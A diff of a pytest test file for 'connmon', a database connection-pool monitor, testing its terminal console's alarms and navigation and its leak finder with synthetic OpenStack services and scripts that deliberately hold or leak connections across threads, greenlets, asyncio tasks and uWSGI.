+             "neutron-dhcp-agent", "nova-api"]
+    for room in (9, 10, 12):
+        cuts = cutter.cuts(names, room)
+        assert set(cuts) == {name for name in names if len(name) > room}
+        shown = [cuts.get(name, name) for name in names]
+        assert len(set(shown)) == len(names), shown
+        for name, text in cuts.items():
+            head, tail = text.split(connmon_console.CUT_MARK)
+            assert len(text) == room
+            assert name.startswith(head) and name.endswith(tail)
+    assert cutter.cuts(names, 9) is cutter.cuts(reversed(names), 9)
+    assert cutter.cuts(["nova"], 9) == {}
+
+
+def test_cutter_with_no_room_for_the_mark_keeps_the_heads():
+    assert connmon_console.Cutter().cuts(["abcdef", "ab"], 1) == {
+        "abcdef": "a", "ab": "a"}
+
+
+def demo_alarms(snapshot: Dict[str, Any]) -> Dict[str, set]:
+    """alarm -> the demo programs raising it, in a snapshot with
+    processes: exhausted, waiting, timeouts, a leak, a long holder."""
+    found: Dict[str, set] = {}
+    for row in snapshot["rows"]:
+        for alarm, raised in (
+                ("exhausted", row["exhausted"]),
+                ("waiting", row["waiting"] > 0 or row["maxwaiting"] > 0),
+                ("timeouts", row["timeouts_total"] > 0),
+                ("leak", connmon_console.leaked(row)),
+                ("long holder", any(proc["long_holders"]
+                                    for proc in row["procs"]))):
+            if raised:
+                found.setdefault(alarm, set()).add(row["progname"])
+    return found
+
+
+def test_demo_shows_every_alarm_it_promises_within_30s(terminal):
+    """The demo's apps pass poolclass= with a <driver>_connmon URL: their
+    pools are measured, so glance-api's waits and timeouts show."""
+    require_module("sqlalchemy")
+    term = terminal("--demo", cols=80, lines=24)
+    started = time.monotonic()
+    term.wait_text("attached to 127.0.0.1:")
+    port = int(term.text.split("attached to 127.0.0.1:")[1].split()[0])
+    found: Dict[str, set] = {}
+
+    def every_alarm() -> bool:
+        result = subprocess.run(
+            [sys.executable, "-m", "connmon_console", "-H",
+             f"127.0.0.1:{port}", "--once", "--json", "--procs"], cwd=HERE,
+            env=CHILD_ENV, capture_output=True, text=True, timeout=30)
+        for alarm, progs in demo_alarms(json.loads(result.stdout)).items():
+            found.setdefault(alarm, set()).update(progs)
+        return {"glance-api"} <= found.get("waiting", set()) & found.get(
+            "timeouts", set()) & found.get("exhausted", set()) and (
+                "keystone-leaky" in found.get("leak", ())) and (
+                    "nova-conductor" in found.get("long holder", ()))
+
+    wait_until(every_alarm, 30 - (time.monotonic() - started),
+               "the demo's five alarms")
+    # ... and the screen's alarm line names them
+    term.wait_for(lambda t: re.search(r"glance-api (WAIT \d+ )?TMOUT",
+                                      alarm_words(t)), "glance-api's alarm")
+    term.wait_for(lambda t: re.search(
+        r"keystone-leaky ((WAIT \d+|TMOUT [\d.]+/s|EXHAUSTED) )*LEAK",
+        alarm_words(t)), "keystone-leaky's leak")
+
+
+# The OpenStack fleet with an alarm of each kind: heat-engine (one
+# connection: last by CONN) has checkouts waiting and timing out; nova-api
+# runs 12 processes in one row; nova-conductor's oldest holder leaked;
+# nova-scheduler's pool is exhausted; and database server db1, which every
+# pool uses, holds 95 % of its max_connections.
+ALARM_DB = ("mysql", "db1", 3306, "nova", "nova")
+
+
+def alarm_fleet(daemon: Daemon) -> Dict[Tuple[str, str, int],
+                                        "SyntheticApp"]:
+    """OPENSTACK, plus heat-engine and nova-api's 12 processes, every pool
+    on db1; returns the apps by (host, program, index)."""
+    fleet = {}
+    programs = [(host, prog, conns, out, age, limit, 0)
+                for host, prog, conns, out, age, limit in OPENSTACK]
+    programs += [("ctl3", prog, 2, 0, None, 10, 0) for prog in (
+        "glance-api", "cinder-api", "cinder-scheduler", "cinder-volume",
+        "keystone", "placement-api", "heat-api", "octavia-api")]
+    programs += [("ctl3", "heat-engine", 1, 1, 1.0, 1, 0)]
+    programs += [("api1", "nova-api", 1, 0, None, 5, index)
+                 for index in range(12)]
+    for host, prog, conns, out, age, limit, index in programs:
+        app = SyntheticApp(daemon, host, prog)
+        app.event(connmon.POOL, 1, limit)
+        app.state.fold([(connmon.POOL, 1, time.monotonic(), limit,
+                         ALARM_DB, None, None, None)])
+        for conn in range(1, conns + 1):
+            app.event(connmon.CONNECT, conn, 1)
+        now = time.monotonic()
+        app.state.fold([(connmon.CHECKOUT, conn, now - (age or 0) + conn - 1,
+                         1, None, None, None, None)
+                        for conn in range(1, out + 1)])
+        if prog == "nova-conductor":
+            app.state.site_names[7] = "/srv/nova/db/api.py:88 in leak"
+            app.state.holders[1] = (7, None, None)
+            app.state.held_at[1] = "thread gone"
+        app.send()
+        fleet[host, prog, index] = app
+    wait_until(lambda: len(daemon.snapshot()["rows"]) == len(OPENSTACK) + 10,
+               what="the fleet's rows")
+    return fleet
+
+
+class TimeoutStorm(threading.Thread):
+    """heat-engine: three checkouts waiting for good, and one giving up
+    every half second, until stopped."""
+
+    def __init__(self, app: "SyntheticApp"):
+        super().__init__(daemon=True)
+        self.app = app
+        self.stopping = threading.Event()
+        self.began = time.monotonic()
+
+    def run(self) -> None:
+        while not self.stopping.is_set():
+            now = time.monotonic()
+            self.app.state.fold([(connmon.TIMED_OUT, None, now, 1, None,
+                                  None, None, now - 5)])
+            self.app.state.look_at_waiters(now, {1: [self.began] * 3})
+            self.app.send()
+            self.stopping.wait(0.5)
+
+    def stop(self) -> None:
+        self.stopping.set()
+        self.join(10)
+
+
+@pytest.fixture
+def alarm_daemon(tmp_path):
+    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n"
+                    "database_servers:\n    db1:3306 max_connections=96\n")
+    fleet = alarm_fleet(daemon)
+    storm = TimeoutStorm(fleet["ctl3", "heat-engine", 0])
+    storm.start()
+    wait_until(lambda: (daemon.row("heat-engine") or {}).get("waiting") == 3
+               and daemon.row("heat-engine")["timeouts_total"] > 0,
+               what="heat-engine waiting and timing out")
+    yield daemon
+    storm.stop()
+    daemon.stop()
+
+
+def alarm_words(t: Terminal) -> str:
+    """The header's lines under the title (totals and alarms), joined."""
+    return " ".join(t.display[1:5])
+
+
+@pytest.mark.parametrize("cols, lines", [(80, 24), (60, 20), (40, 15)])
+def test_console_every_alarm_on_the_first_screen(alarm_daemon, terminal,
+                                                 cols, lines):
+    daemon = alarm_daemon
+    term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
+                    lines=lines)
+    term.wait_text("sorted by CONN descending")
+    # heat-engine sorts last by CONN, below the bottom at either size ...
+    # (its timeouts are seen as recent from the second snapshot on)
+    term.wait_for(lambda t: "heat-engine" not in "\n".join(
+        t.display[7:-1]) and re.search(
+            r"ALARMS 4: heat-engine WAIT 3 TMOUT [\d.]+", alarm_words(t)),
+        "heat-engine named first in the alarm line")
+    words = alarm_words(term)
+    # the header's numbers are whole at any width
+    for total in ("Hosts 6/6", "Procs 30/30", "Conn 91/91", "Ckout 12/12 ",
+                  "Wait 3/"):
+        assert total in words, (total, term.text)
+    assert re.search(r"Tmout [\d.]+/s", words), words
+    if cols == 80:   # ... and every alarm is named on the first screen
+        for alarm in ("DB db1:3306 CONN 91/96 95%", "nova-scheduler "
+                      "EXHAUSTED", "nova-conductor LEAK"):
+            assert alarm in words, (alarm, term.text)
+        # the numbers of the header are whole
+        assert re.search(r"Conn 91/91 .*Tmout [\d.]+/s", words), words
+    else:
+        assert re.search(r"\+[123] more \(a\)", words), words
+    # the alarms view lists them all; Enter on one opens its processes
+    term.press(b"a")
+    term.wait_text("4 alarms:")
+    listed = "\n".join(term.display[7:-1])
+    for name in ("heat-engine", "db1:3306", "nova-sche", "nova-cond"):
+        assert name in listed, (name, term.text)
+    term.press(b"\r")
+    term.wait_text("heat-engine on ctl3: 1 process")
+    term.press(b"\x1b")
+    term.wait_text("4 alarms:")
+    term.press(b"\x1b")
+    # TMOUT/S marked, whatever the sort: End shows the row
+    term.press(term.key["kend"])
+    term.wait_for(lambda t: "heat-engine" in "\n".join(t.display[7:-1]),
+                  "heat-engine at the end")
+    if cols == 80:
+        row = term.wait_for(lambda t: screen_row(t, "heat-engine"),
+                            "the heat-engine row")
+        heads, _ = table_on_screen(term)
+        fields = dict(zip(heads, term.display[row["y"]].split()))
+        assert fields["WAIT"] == "!3" and fields["TMOUT/S"].startswith(
+            "!"), fields
+    term.press(b"d")   # the databases view: db1 at 95 %, marked
+    term.wait_for(lambda t: re.search(r"db1:3306 +all \(mysql\) +!91"
+                                      + (r" +!95 " if cols == 80 else ""),
+                                      t.text), "db1's CONN (USE%) marked")
+    term.press(b"\x1b")
+    term.wait_text("sorted by CONN descending")
+    term.press(b"w")   # one key: sort by WAIT (the selection follows
+    term.wait_text("sorted by WAIT descending")   # its row: Home)
+    term.press(term.key["khome"])
+    term.wait_for(lambda t: "heat-engine" in t.display[7], "WAIT sort")
+    term.press(b"o")
+    term.wait_text("sorted by OLDEST descending")
+    term.press(term.key["khome"])
+    term.wait_for(lambda t: shown_as(t.display[7].split()[1],
+                                     "nova-conductor"), "OLDEST sort")
+
+
+@pytest.mark.parametrize("cols, lines", [(80, 24), (40, 15)])
+def test_console_every_list_reachable_by_keys(alarm_daemon, terminal,
+                                              cols, lines):
+    daemon = alarm_daemon
+    truth = daemon.snapshot()["rows"]
+    term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
+                    lines=lines)
+    term.wait_text("sorted by CONN descending")
+    # the table: cut, it says how many more; PgDn and End reach the rest
+    term.wait_for(lambda t: t.display[-1].startswith(
+        f"[1-{lines - 8} of 19]"), "the footer's 1-N of 19")
+    if cols == 80:
+        term.wait_text("(1-16 shown, 3 more)")
+    seen = set()
+
+    def collect(t: Terminal) -> bool:
+        for line in t.display[7:-1]:
+            fields = line.split()
+            if len(fields) > 2:
+                seen.add(fields[1])
+        return True
+
+    for _ in range(4):
+        term.wait_for(collect, "rows")
+        term.press(term.key["knp"])
+        time.sleep(0.4)   # (the keys are read between refreshes)
+    term.wait_for(collect, "rows")
+    for row in truth:
+        assert any(shown_as(name, row["progname"]) for name in seen), (
+            row["progname"], seen)
+    # the drill-down of nova-api: 12 processes, 12 pools, all reachable
+    term.press(b"/nova-api\r")
+    term.wait_text("[filter: nova-api]")
+    term.press(b"\r")
+    term.wait_text("nova-api on api1: 12 processes")
+    term.wait_text("more lines (Down/j, PgDn, End)")
+    document: Dict[int, str] = {}
+    frames: List[List[str]] = [[]]
+
+    def read(t: Terminal) -> bool:
+        """The drill-down's lines on screen by their place in it (the
+        caption says where the screen starts), once the screen has held
+        still for a poll (a whole frame drawn)."""
+        display = t.display
+        if display != frames[-1]:
+            frames.append(display)
+            return False
+        found = re.search(r": 12 processes \((\d+)-", display[5])
+        if found is None:
+            return False
+        lines = display[7:-1]
+        if "more lines" in lines[-1]:
+            lines = lines[:-1]
+        for offset, line in enumerate(lines):
+            document[int(found[1]) - 1 + offset] = line
+        return True
+
+    term.wait_for(read, "the first page")
+    while "more lines (Down/j" in term.text:
+        before = term.display[5]
+        term.press(term.key["knp"])
+        term.wait_for(lambda t: t.display[5] != before and read(t),
+                      "the next page")
+    term.press(term.key["khome"] + b"j")   # j: one line down
+    term.wait_for(lambda t: re.search(r"processes \(2-", t.display[5]),
+                  "one line down")
+    term.press(term.key["kcud1"])          # Down: one more
+    term.wait_for(lambda t: re.search(r"processes \(3-", t.display[5]),
+                  "two lines down")
+    term.press(term.key["kend"])
+    term.wait_for(lambda t: read(t) and "more lines" not in t.text,
+                  "the end")
+    text = [document[index] for index in sorted(document)]
+    assert sorted(document) == list(range(len(document)))   # none skipped
+    pools_at = [i for i, line in enumerate(text)
+                if "12 pools, with the database of each" in line]
+    assert pools_at, text
+    processes = [line for line in text[:pools_at[0]]
+                 if line.split()[:1] == ["4242"]]
+    pools = [line for line in text[pools_at[0]:]
+             if line.split()[:1] == ["4242"]]
+    assert len(pools) == 12, text
+    assert len(processes) == 12, text
+
+
+# ===========================================================================
+# The leak finder
+#
+# Where in the application connections are held: the checkout line, the
+# holder (thread, pooled thread, greenlet, task) and whether it is gone,
+# sites ranked by what they hold, bounded memory for code made at run time;
+# shown in the console's sites view, drill-down and history, and by --once.
+# ===========================================================================
+
 
 LEAK_APP_SCRIPT = r'''
 import json, sys, threading, time
@@ -3035,23 +4702,6 @@ def test_sites_can_be_turned_off_in_the_config(tmp_path):
         daemon.stop()
 
 
-def test_oslo_db_writer_attributed_to_the_application(daemon, tmp_path):
-    require_database(MYSQL_URL)
-    conf = tmp_path / "nova.conf"
-    url = monitored(MYSQL_URL, daemon, "plugin")
-    conf.write_text(f"[database]\nconnection = {url}\n")
-    app = OsloApp(tmp_path, str(conf), "oslo_sites.py")
-    try:
-        app("writer 2")
-        row = daemon.wait_row("oslo_sites.py", ckout=2)
-        (site,) = row["sites"]
-        assert site["held"] == 2
-        assert site["site"].startswith(f"{tmp_path / 'oslo_sites.py'}:")
-        assert site["site"].endswith(" in hold")
-    finally:
-        app.stop()
-
-
 def leak_site(marker: str, function: str) -> str:
     """How the console shows a line of the leak app: its path's tail."""
     return f"leaky.py:{line_of(marker)} in {function}"
@@ -3113,13 +4763,6 @@ def holder_lines(t: Terminal) -> List[str]:
         lambda line: "long holders (held past" not in line, t.display))
     return [line.strip() for line in itertools.takewhile(
         str.strip, lines[2:-1])]
-
-
-def history_line(t: Terminal, label: str) -> str:
-    """The drill-down's sparkline for ``label``; "" while not on screen."""
-    lines = [line.rstrip() for line in t.display
-             if line.startswith(label + " ")]
-    return lines[0] if len(lines) == 1 else ""
 
 
 def test_console_drill_down_long_holders_and_history(tmp_path, leak_daemon,
@@ -3244,44 +4887,2145 @@ def test_console_history_in_ascii(tmp_path, leak_daemon, terminal):
         app.stop()
 
 
-# ---------------------------------------------------------------------------
-# Issue 5: hardening -- auth, TLS, heartbeats, hostile input; the app never
-# notices
-# ---------------------------------------------------------------------------
+# Each of these programs sets its holders up, prints "ready" and waits; the
+# daemon then tells what each connection held past a second (the
+# leak_daemon's hold_warn_seconds) is.  What the console's drill-down, the
+# snapshot's long holders and its sites' long holders show is one text.
+THREADS_SCRIPT = r"""
+import concurrent.futures, json, os, sys, threading, time
+import sqlalchemy as sa
 
-SECRET = "hunter2-Sh4red-Secret"
+engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
+kept = []
+
+def exited(thread):
+    # Wait until a joined thread's OS thread is gone: only then may the C
+    # library give its stack, and so its ident, to another thread.
+    for _ in range(500):
+        if not os.path.exists(f"/proc/self/task/{thread.native_id}"):
+            return
+        time.sleep(0.01)
+
+def leak_and_end():
+    kept.append(engine.connect())   # ENDED-SITE
+
+def query_slowly():
+    with engine.connect() as conn:   # SLOW-SITE
+        conn.execute(sa.text("SELECT SLEEP(600)"))   # SLOW-HELD
+
+def leak_on_the_pool():
+    kept.append(engine.connect())   # POOLED-SITE
+
+def other_work():
+    time.sleep(600)   # OTHER-WORK
+
+def leak_before_reuse():
+    kept.append(engine.connect())   # REUSED-SITE
+
+def idle(release):
+    release.wait()   # IDLE
+
+ended = threading.Thread(target=leak_and_end)
+ended.start()
+ended.join()
+threading.Thread(target=query_slowly, daemon=True).start()
+pool = concurrent.futures.ThreadPoolExecutor(1)
+pool.submit(leak_on_the_pool).result()
+pool.submit(other_work)
+gone = threading.Thread(target=leak_before_reuse)
+gone.start()
+gone.join()
+exited(gone)
+# A new thread the OS gives the ended one's ident, running other code (the
+# threads that get other idents stay, so that their stacks are not the
+# ones handed out again).
+for _ in range(50):
+    reused = threading.Thread(target=idle, args=(threading.Event(),),
+                              daemon=True)
+    reused.start()
+    if reused.ident == gone.ident:
+        break
+print("ready", reused.ident == gone.ident, flush=True)
+time.sleep(600)
+"""
+
+GEVENT_SCRIPT = r"""
+from gevent import monkey
+monkey.patch_all()
+import json, sys
+import gevent
+import sqlalchemy as sa
+
+engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
+kept = []
+
+def query_slowly():
+    with engine.connect() as conn:   # GREEN-SLOW-SITE
+        conn.execute(sa.text("SELECT SLEEP(600)"))   # GREEN-SLOW-HELD
+
+def leak_and_end():
+    kept.append(engine.connect())   # GREEN-ENDED-SITE
+
+slow = gevent.spawn(query_slowly)
+gevent.spawn(leak_and_end).join()
+gevent.sleep(0.5)
+print("ready", slow.dead, flush=True)
+gevent.sleep(600)
+"""
+
+EVENTLET_SCRIPT = GEVENT_SCRIPT.replace(
+    "from gevent import monkey\nmonkey.patch_all()\n",
+    "import eventlet\neventlet.monkey_patch()\n").replace(
+    "import gevent\n", "").replace("gevent.", "eventlet.").replace(
+    "eventlet.spawn(leak_and_end).join()", "eventlet.spawn(leak_and_end).wait()")
+
+ASYNCIO_SCRIPT = r"""
+import asyncio, json, sys
+import sqlalchemy as sa
+from sqlalchemy.ext.asyncio import create_async_engine
+
+kept = []
+
+async def handler(engine):
+    async with engine.connect() as conn:   # TASK-SITE
+        await conn.execute(sa.text("SELECT 1"))
+        await asyncio.sleep(600)   # TASK-HELD
+
+async def leak_and_end(engine):
+    kept.append(await engine.connect())   # TASK-ENDED-SITE
+
+async def main():
+    engine = create_async_engine(sys.argv[1], **json.loads(sys.argv[2]))
+    holder = asyncio.create_task(handler(engine), name="holder-1")
+    await asyncio.create_task(leak_and_end(engine), name="leaker-1")
+    await asyncio.sleep(0.5)
+    print("ready", holder.done(), flush=True)
+    await asyncio.sleep(600)
+
+asyncio.run(main())
+"""
 
 
-class SecureDaemon(Daemon):
-    """A Daemon whose own snapshots (wait_row, ...) connect like any client
-    of its service: with the secret and TLS of its config file."""
+class ScriptApp(App):
+    """A program that sets itself up, says "ready ..." and waits."""
 
-    def snapshot(self, procs: bool = False) -> Dict[str, Any]:
-        service = connmon.find_service("test", str(self.config))
-        conn = connmon.open_connection(
-            [("127.0.0.1", self.port)], "console",
-            security=connmon.Security.of_service(service, console=True))
+    def __init__(self, tmp_path, source: str, url: str, progname: str,
+                 **options: Any):
+        self.source = source
+        super().__init__(tmp_path, url, progname, **options)
+        ready = readable([self.proc.stdout], 60)
+        line = self.proc.stdout.readline() if ready else ""
+        if not line.startswith("ready"):
+            self.stop()   # a program that never started is not left behind
+            raise AssertionError(f"{progname} did not start: {line!r}\n"
+                                 f"{self.log.read_text()[-4000:]}")
+        self.said = line.split()[1:]
+
+
+def mariadb_leak_url(daemon: Daemon, driver: str = "pymysql") -> str:
+    from sqlalchemy.engine import make_url
+    require_database(MYSQL_URL)
+    return make_url(MYSQL_URL).set(drivername=f"mysql+{driver}").\
+        update_query_dict({"plugin": "connmon", "connmon_service": "test",
+                           "connmon_config": str(daemon.config)}).\
+        render_as_string(hide_password=False)
+
+
+def verdicts(daemon: Daemon, app: App, expected: Dict[str, str]
+             ) -> Dict[str, str]:
+    """Wait until each long holder of ``app`` (by site) reads as
+    ``expected``, the same in the process's long holders and in its row's
+    sites; return what they read last."""
+    seen: Dict[str, str] = {}
+
+    def read() -> bool:
+        row = daemon.row(app.progname, procs=True)
+        if not row or not row["procs"]:
+            return False
+        (proc,) = row["procs"]
+        seen.clear()
+        seen.update((h["site"], h["held_at"]) for h in proc["long_holders"])
+        by_site = {site["site"]: sorted(h["held_at"] for h in
+                                        site["long_holders"])
+                   for site in row["sites"]}
+        return seen == expected and by_site == {
+            site: [text] for site, text in expected.items()}
+    try:
+        wait_until(read, 30, "the long holders' verdicts")
+    except AssertionError:
+        raise AssertionError(f"long holders read {seen}, expected "
+                             f"{expected}") from None
+    return seen
+
+
+def place(app: App, marker: str, function: str, source: str) -> str:
+    return f"{app.proc.args[1]}:{line_of(marker, source)} in {function}"
+
+
+def test_leak_finder_in_plain_and_pooled_threads(tmp_path, leak_daemon):
+    """A thread that ended: thread gone.  A thread blocked in the driver:
+    held at the application's line, not pymysql's.  A pooled thread back
+    from the leaking function, running other code: leaked.  A new thread
+    with the ended one's ident: thread gone still."""
+    app = ScriptApp(tmp_path, THREADS_SCRIPT, mariadb_leak_url(leak_daemon),
+                    "threads.py", pool_size=10)
+    try:
+        assert app.said == ["True"], "the OS did not reuse the ident"
+        at = functools.partial(place, app, source=THREADS_SCRIPT)
+        verdicts(leak_daemon, app, {
+            at("ENDED-SITE", "leak_and_end"): "thread gone",
+            at("SLOW-SITE", "query_slowly"): at("SLOW-HELD", "query_slowly"),
+            at("POOLED-SITE", "leak_on_the_pool"): "leaked",
+            at("REUSED-SITE", "leak_before_reuse"): "thread gone"})
+    finally:
+        app.stop()
+
+
+@pytest.mark.parametrize("runtime", ["gevent", "eventlet"])
+def test_leak_finder_in_greenlets(tmp_path, leak_daemon, runtime):
+    """A greenlet waiting for a slow query is held at its line, however
+    long; one that ended without returning its connection is gone."""
+    source = GEVENT_SCRIPT if runtime == "gevent" else EVENTLET_SCRIPT
+    app = ScriptApp(tmp_path, source, mariadb_leak_url(leak_daemon),
+                    f"{runtime}_app.py", pool_size=10)
+    try:
+        assert app.said == ["False"]   # the slow one lives
+        at = functools.partial(place, app, source=source)
+        verdicts(leak_daemon, app, {
+            at("GREEN-SLOW-SITE", "query_slowly"): at(
+                "GREEN-SLOW-HELD", "query_slowly"),
+            at("GREEN-ENDED-SITE", "leak_and_end"): "thread gone"})
+    finally:
+        app.stop()
+
+
+def test_leak_finder_in_asyncio_tasks(tmp_path, leak_daemon):
+    """An asyncio engine's checkout sites are the awaiting coroutines'
+    lines; a task holding its connection is held at the line it awaits
+    at, a task done without returning it is gone; both name the task."""
+    app = ScriptApp(tmp_path, ASYNCIO_SCRIPT,
+                    mariadb_leak_url(leak_daemon, "aiomysql"), "tasks.py",
+                    pool_size=10)
+    try:
+        assert app.said == ["False"]
+        at = functools.partial(place, app, source=ASYNCIO_SCRIPT)
+        verdicts(leak_daemon, app, {
+            at("TASK-SITE", "handler"):
+                at("TASK-HELD", "handler") + " (task holder-1)",
+            at("TASK-ENDED-SITE", "leak_and_end"):
+                "thread gone (task leaker-1)"})
+    finally:
+        app.stop()
+
+
+def test_leak_finder_keeps_no_ended_holder_alive(daemon):
+    """A task that checked a connection out, returned it and ended is
+    collected with what it returned while its connection waits in the
+    pool: the leak finder knows holders weakly.  A task that ended
+    holding its connection is still "thread gone (task NAME)" once
+    collected."""
+    import asyncio
+    from sqlalchemy.ext.asyncio import create_async_engine
+    require_database(MYSQL_URL)
+    engine = create_async_engine(
+        monitored(MYSQL_URL.replace("+pymysql", "+aiomysql"), daemon,
+                  "plugin"), pool_size=2)
+
+    class Answer:   # what a handler returns (the objects may be big)
+        pass
+
+    async def handler() -> Answer:
+        async with engine.connect() as conn:
+            await conn.exec_driver_sql("SELECT 1")
+        return Answer()
+
+    async def main() -> List[bool]:
+        task = asyncio.create_task(handler())
+        refs = [weakref.ref(task), weakref.ref(await task)]
+        del task
+        await asyncio.sleep(0)   # the loop lets go of the task's wake-up
+        gc.collect()
+        alive = [ref() is not None for ref in refs]
+        await engine.dispose()
+        return alive
+
+    assert asyncio.run(main()) == [False, False]
+
+
+# A uWSGI application of request threads: GET /hold holds a connection at
+# a line for as long as its request runs; GET /leak keeps one past the
+# request, on the thread that then waits, in uWSGI's C code, for the next.
+UWSGI_LEAK_APP = r'''
+import time
+import sqlalchemy as sa
+
+engine = sa.create_engine({url!r}, pool_size=5, max_overflow=0)
+kept = []
+
+def hold():
+    with engine.connect() as conn:   # UWSGI-HOLD-SITE
+        conn.execute(sa.text("SELECT 1"))
+        time.sleep(600)   # UWSGI-HELD
+
+def leak():
+    kept.append(engine.connect())   # UWSGI-LEAK-SITE
+
+def application(environ, start_response):
+    {{"/hold": hold, "/leak": leak}}[environ["PATH_INFO"]]()
+    start_response("200 OK", [("Content-Length", "1")])
+    return [b"1"]
+'''
+
+
+def test_leak_finder_in_uwsgi_request_threads(tmp_path, leak_daemon):
+    """Held by live uWSGI request threads (threads Python did not make),
+    connections read as held at the line that holds them, and one kept
+    past its request as leaked: none as "thread gone"."""
+    require_database(MYSQL_URL)
+    source = UWSGI_LEAK_APP.format(url=mariadb_leak_url(leak_daemon))
+    app = tmp_path / "uwsgi_leak_app.py"
+    app.write_text(source)
+    port = free_port()
+    server = Server(tmp_path, [
+        "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
+        "--processes", "1", "--threads", "4", "--wsgi-file", str(app),
+        "--die-on-term", "--disable-logging"], port)
+
+    def ask(path: str) -> None:
         try:
-            return conn.request({"op": "snapshot", "procs": procs})
-        finally:
-            conn.close()
+            server.get(path)
+        except OSError:   # /hold answers in ten minutes
+            pass
+    holding = [threading.Thread(target=ask, args=(path,), daemon=True)
+               for path in ("/hold", "/hold", "/leak")]
+    try:
+        wait_until(lambda: server.get("/leak"), 30, "uWSGI to answer")
+        for thread in holding:
+            thread.start()
+        at = functools.partial(line_of, source=source)
+        held = f"{app}:{at('UWSGI-HELD')} in hold"
+        expected = sorted(
+            [(f"{app}:{at('UWSGI-HOLD-SITE')} in hold", held)] * 2
+            + [(f"{app}:{at('UWSGI-LEAK-SITE')} in leak", "leaked")] * 2)
+        seen: List[tuple] = []
+
+        def read() -> bool:
+            row = leak_daemon.row("uwsgi", procs=True) or {"procs": []}
+            seen[:] = sorted((h["site"], h["held_at"]) for proc in row["procs"]
+                             for h in proc["long_holders"])
+            return seen == expected
+        try:
+            wait_until(read, 30, "the long holders' verdicts")
+        except AssertionError:
+            raise AssertionError(f"long holders read {seen}, expected "
+                                 f"{expected}\n{server.log_tail()}") from None
+    finally:
+        server.stop()
 
 
-def secret_file(tmp_path, name: str, secret: str = SECRET) -> str:
-    path = tmp_path / name
-    path.write_text(secret + "\n")
-    path.chmod(0o600)
-    return str(path)
+# A connection is held while an application frame of its checkout (the
+# site or one of its application callers) is still on its holder's stack;
+# leaked when none is.  Every holder below holds before its program says
+# "ready".
+
+# What web frameworks do with a request's Session: the view opens it, the
+# middleware closes it after the view returned (or forgets to).
+VIEW_CODE = r"""
+class Request:
+    "What a web framework hands its views."
+
+def view(request):
+    request.session = Session()
+    request.session.execute(sa.text("SELECT 1"))   # VIEW-SITE
+
+def middleware(request, forget):
+    view(request)
+    began.release()
+    if forget:
+        kept.append(request)   # the Session with it: never closed
+        return
+    time.sleep(600)   # MIDDLEWARE-HELD
+    request.session.close()
+"""
+
+ORM_SCRIPT = r"""
+import concurrent.futures, json, sys, threading, time
+import sqlalchemy as sa
+from sqlalchemy import orm
+from oslo_db.sqlalchemy import enginefacade
+
+engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
+Session = orm.sessionmaker(engine)
+facade = enginefacade.transaction_context()
+facade.configure(connection=sys.argv[1], max_pool_size=10)
+kept = []
+began = threading.Semaphore(0)   # each holder says when it holds
+
+@enginefacade.transaction_context_provider
+class Context:
+    "A request context: enginefacade keeps its session on it."
+
+def lookup(session):
+    return session.execute(sa.text("SELECT 1")).scalar()   # ORM-SITE
+
+def orm_request():
+    with Session() as session, session.begin():
+        lookup(session)
+        began.release()
+        time.sleep(600)   # ORM-HELD
+
+def _lookup(session):
+    return session.execute(sa.text("SELECT 1")).scalar()   # READER-SITE
+
+@facade.reader
+def api_get(context):
+    _lookup(context.session)
+    began.release()
+    time.sleep(600)   # READER-HELD
+
+@facade.reader
+def _read_nested(context):
+    context.session.execute(sa.text("SELECT 1"))   # NESTED-SITE
+
+@facade.writer
+def api_update(context):
+    _read_nested(context)
+    began.release()
+    time.sleep(600)   # WRITER-HELD
+
+def open_conn():
+    return engine.connect()   # HANDED-SITE
+
+def caller():
+    conn = open_conn()
+    began.release()
+    time.sleep(600)   # HANDED-HELD
+    conn.close()
+
+def store_and_go():
+    kept.append(engine.connect())   # STORED-SITE
+
+def other_work():
+    began.release()
+    time.sleep(600)
+""" + VIEW_CODE + r"""
+for target, args in ((orm_request, ()), (api_get, (Context(),)),
+                     (api_update, (Context(),)), (caller, ()),
+                     (middleware, (Request(), False))):
+    threading.Thread(target=target, args=args, daemon=True).start()
+pool = concurrent.futures.ThreadPoolExecutor(1)
+pool.submit(store_and_go).result()
+pool.submit(other_work)
+print("ready", all(began.acquire(timeout=60) for _ in range(6)), flush=True)
+time.sleep(600)
+"""
+
+# One worker thread serving request after request, as gunicorn's gthread
+# workers do (their pools are ThreadPoolExecutors).  A request of the
+# handler leaks its Session; the next one runs the same handler in a new
+# frame, which holds its own connection when the allocator gave it the
+# leaking frame's memory (else it returns the leaked Session, and the pair
+# is tried again): the case where an address tells nothing.
+WORKER_SCRIPT = r"""
+import concurrent.futures, json, queue, sys, threading, time
+import sqlalchemy as sa
+from sqlalchemy import orm
+
+engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
+Session = orm.sessionmaker(engine)
+kept = []
+began = threading.Semaphore(0)
+frames = []       # id() of each request's frame of handle
+pending = []      # the Session of the last request
+reused = queue.Queue()
+
+def handle(request):
+    caller = sys._getframe(1)   # (its memory first: the one freed last)
+    frames.append(id(sys._getframe()))
+    del caller
+    if request == "leak":
+        session = Session()
+        session.execute(sa.text("SELECT 1"))   # WORKER-LEAK-SITE
+        pending.append(session)
+    elif frames[-1] != frames[-2]:
+        pending.pop().close()
+        reused.put(False)
+    else:
+        kept.append(pending.pop())
+        with engine.connect() as conn:   # WORKER-SLOW-SITE
+            reused.put(True)
+            time.sleep(600)   # WORKER-SLOW-HELD
+""" + VIEW_CODE + r"""
+worker = concurrent.futures.ThreadPoolExecutor(1)
+worker.submit(middleware, Request(), True).result()
+for _ in range(100):
+    worker.submit(handle, "leak")
+    worker.submit(handle, "next")
+    if reused.get(timeout=60):
+        break
+print("ready", reused.empty() and frames[-1] == frames[-2], flush=True)
+time.sleep(600)
+"""
+
+GREEN_ORM_SCRIPT = r"""
+import eventlet
+eventlet.monkey_patch()
+import json, sys, time
+import sqlalchemy as sa
+from sqlalchemy import orm
+
+engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
+Session = orm.sessionmaker(engine)
+held = []
+
+def lookup(session):
+    return session.execute(sa.text("SELECT 1")).scalar()   # GREEN-ORM-SITE
+
+def orm_request():
+    with Session() as session, session.begin():
